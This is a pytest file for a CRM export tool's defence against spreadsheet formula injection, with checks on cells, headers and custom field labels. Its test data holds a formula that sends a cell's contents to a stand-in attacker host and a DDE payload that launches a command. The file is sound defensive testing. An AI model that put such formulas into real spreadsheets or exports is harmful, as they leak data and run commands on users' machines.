"""Formula text is defused where a formula could start, and only there; headers and labels too (issue 14)."""

from __future__ import annotations

import zipfile

import openpyxl
import pandas as pd
import pytest

from crmkit.export import export
from crmkit.fields import fields_frame
from crmkit.io.neutralise import looks_like_formula, neutralise_csv
from crmkit.templates import refresh_workspace, write_workspace
from crmkit.workspace import open_workspace

EVIL = '=WEBSERVICE("http://evil.example/?"&A2)'


@pytest.mark.parametrize("value", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1",
                                   "=HYPERLINK(\"http://x\")", "+1 (415) 293-3313", "-137-0013-7000"])
def test_text_that_can_start_a_formula_gets_a_quote(value):
    assert looks_like_formula(value)
    assert neutralise_csv(pd.DataFrame({"a": [value]}))["a"].tolist() == ["'" + value]


@pytest.mark.parametrize("value", ["+8613700137000", "-5", "+86 137 0013 7000", "+120****0123", "137****7000",
                                   "+15108637227 ext. 152", "1e3", "Acme", "", "a=b"])
def test_plain_numbers_and_phone_numbers_get_no_visible_quote(value):
    assert not looks_like_formula(value)
    assert neutralise_csv(pd.DataFrame({"a": [value]}))["a"].tolist() == [value]


def test_header_cells_are_defused_too():
    out = neutralise_csv(pd.DataFrame({EVIL: ["x"], "name": ["y"]}))
    assert out.columns.tolist() == ["'" + EVIL, "name"]


def _evil_fields():
    fields = fields_frame("en").assign(enabled=True)
    fields.loc[2, "label_en"] = EVIL
    return fields


def test_a_csv_export_defuses_a_custom_field_label_and_leaves_phone_numbers_alone(tmp_path):
    customers = pd.DataFrame({"customer_id": ["C1", "C2"], "name": ["Acme", "-2+3"],
                              "phone": ["+8613700137000", "+15108637227 ext. 152"], "source": ["referral"] * 2,
                              "created_at": ["2026-01-02"] * 2, "expected_amount": [100, 200]})
    folder = write_workspace(tmp_path / "ws", {"customers": customers, "fields": _evil_fields()},
                             settings={"show_full_contacts": True, "phone_region": "US"})
    assert _formulas(folder / "customers.xlsx") == []
    out = tmp_path / "c.csv"
    export(folder, "customers", out, columns=["name", "phone", "expected_amount"])
    df = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    assert df.columns.tolist() == ["Customer name", "Phone", "'" + EVIL]
    assert df["Customer name"].tolist() == ["Acme", "'-2+3"]
    assert df["Phone"].tolist() == ["+8613700137000", "+15108637227 ext. 152"]


def _formulas(path):
    """Cells of the workbook at ``path`` stored as formulas (an <f> element in a sheet's XML)."""
    with zipfile.ZipFile(path) as zf:
        return [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]


def test_templates_refresh_writes_a_formula_like_label_as_text(tmp_path):
    customers = pd.DataFrame({"customer_id": ["C1"], "name": ["Acme"], "source": ["referral"],
                              "created_at": ["2026-01-02"]})
    folder = write_workspace(tmp_path / "ws", {"customers": customers})
    path = folder / "customers.xlsx"
    book = openpyxl.load_workbook(path)
    book.create_sheet("My notes")["A1"] = "a person saved this workbook"
    book.save(path)                                   # so refresh adds the columns in place (openpyxl)
    ws = open_workspace(folder)
    ws.replace("fields", _evil_fields())
    ws.save(["rules"])
    assert refresh_workspace(folder)["customers"]["columns"] == {"customers": ["expected_amount", "need_tags"]}
    sheet = openpyxl.load_workbook(path)["Customers"]
    cell = next(c for c in sheet[1] if c.value == EVIL)
    assert cell.data_type == "s"
    assert _formulas(path) == []
    assert _formulas(folder / "rules.xlsx") == []
    refresh_workspace(folder, force=True)             # crmkit's own writer, README sheet included
    assert _formulas(path) == []
